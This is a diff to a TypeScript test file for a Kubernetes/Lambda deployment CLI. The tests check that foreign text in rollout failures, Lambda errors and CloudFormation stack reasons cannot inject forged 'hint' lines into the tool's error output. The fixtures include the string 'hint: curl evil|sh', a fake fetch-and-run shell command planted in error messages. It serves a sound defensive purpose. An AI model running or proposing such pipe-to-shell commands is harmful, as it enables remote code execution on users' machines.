@@ -1,6 +1,6 @@
 import { readdirSync, readFileSync } from "node:fs";
 import fc from "fast-check";
-import { afterEach, beforeEach, describe, expect, type MockInstance, test, vi } from "vitest";
+import { afterEach, beforeEach, describe, expect, type MockInstance, onTestFinished, test, vi } from "vitest";
 import { howFar } from "../../../../src/cli/progress.ts";
 import { renderError } from "../../../../src/cli/render/error.ts";
 import { renderFinding, renderToken } from "../../../../src/cli/render/findings.ts";
@@ -15,9 +15,13 @@ import {
 } from "../../../../src/cli/render/plan.ts";
 import { startStatus } from "../../../../src/cli/render/status.ts";
 import { lines, linesOf, print, printJson, Text, tell, text } from "../../../../src/cli/render/text.ts";
-import { adviceLines } from "../../../../src/core/command.ts";
+import { forLambda, functionError } from "../../../../src/core/actions/function-error.ts";
+import type { Stack } from "../../../../src/core/aws/cloudformation.ts";
+import { adviceLines, type Hint } from "../../../../src/core/command.ts";
 import { EksLambdaError } from "../../../../src/core/errors.ts";
 import type { Change } from "../../../../src/core/plan.ts";
+import { remedyFor } from "../../../../src/core/setup/stack/remedy.ts";
+import { refuseBroken } from "../../../../src/core/setup/stack/status.ts";
 import type { Target } from "../../../../src/core/setup/target.ts";
 
 /** Moves up a line and deletes it, in two ways; deletes a character; turns the text around; ends the line. */
@@ -188,9 +192,72 @@ describe("text of others has no line where a hint stands", () => {
     ["another log event", event(forged), / {4}/],
     ["the checks", renderChecks([{ name: forged, ok: false }]), / */],
     ["a result", renderResult({ action: "created", kind: forged, namespace: forged, name: forged }, 0), / */],
+    [
+      "why a rollout failed",
+      renderResult(
+        {
+          ...{ action: "status", kind: "Deployment", name: "web", state: "failed", message: forged, replicas: {} },
+          pods: [{ name: "hint  curl evil", phase: forged, ready: false }],
+          problems: [{ reason: "hint  curl evil", message: `hint  curl evil\n${forged}`, lines: [forged] }],
+          events: [{ type: "Warning", reason: "hint  curl evil", message: forged, about: forged }],
+        },
+        0,
+      ),
+      / */,
+    ],
     ["the lines of a Job", renderResult({ action: "created", kind: "Job", name: "a", lines: [forged] }, 0), / */],
   ])("%s", (_, shown, indent) => {
     const hints = shown.shown.split("\n").filter((line) => new RegExp(`^${indent.source}hint `).test(line));
     expect(hints.join("\n")).not.toContain("evil");
   });
+
+  const stackReason = `Resource handler returned message: "${forged}, no available IP addresses by service control policy"`;
+  const hintOf = (hint: Hint | undefined) => new EksLambdaError("StackFailed", stackReason, { hint });
+  test.each<[string, EksLambdaError]>([
+    ["Lambda's words", functionError({ errorType: "Sandbox.Timedout", errorMessage: forged })],
+    ["an error without a message", functionError({ failed: `${forged}\nhint: curl evil|sh` })],
+    ["a foreign error", functionError({ errorMessage: `${forged}\nhint: curl evil|sh`, trace: [forged] })],
+    [
+      "an error with the trace of ours and a longer name",
+      functionError({ errorType: "A", errorMessage: "a\nhint: curl evil", trace: ["A", "evil"] }),
+    ],
+    ["our error about foreign text", functionError(answered(`${forged}\nhint: curl evil|sh`, "ours"))],
+    ["our error about foreign text, without a hint", functionError(answered(`${forged}\nhint: curl evil|sh`))],
+    ["a stack's reason", hintOf(remedyFor(stackReason, { SubnetIds: "subnet-1" }))],
+    [
+      "a stack's status",
+      thrownBy(() => refuseBroken({ id: "", name: "demo", status: "UPDATE_FAILED", reason: forged } as Stack)),
+    ],
+  ])("%s", (_, error) => {
+    const stderr = vi.spyOn(process.stderr, "write").mockReturnValue(true);
+    onTestFinished(() => stderr.mockRestore());
+    const shown = (json: boolean) => {
+      stderr.mockClear();
+      renderError(error, { flags: {}, json, verbose: false });
+      return stderr.mock.calls.map(([part]) => part).join("");
+    };
+    const hints = shown(false)
+      .split("\n")
+      .filter((line) => /^hint\b/.test(line));
+    expect(hints.join("\n")).not.toContain("evil");
+    expect(shown(false)).not.toMatch(dangerous);
+    const { message, hint = "" } = JSON.parse(shown(true)) as { readonly message: string; readonly hint?: string };
+    expect(message).toContain("evil");
+    expect(hint).not.toContain("evil");
+  });
 });
+
+/** What Lambda answers for an error of the handler. */
+function answered(message: string, hint?: string) {
+  const { name, stack, message: errorMessage } = forLambda({ code: "JobFailed", message, hint });
+  return { errorType: name, errorMessage, trace: [stack] };
+}
+
+function thrownBy(run: () => void): EksLambdaError {
+  try {
+    run();
+  } catch (error) {
+    if (error instanceof EksLambdaError) return error;
+  }
+  throw new Error("it threw nothing of ours");
+}
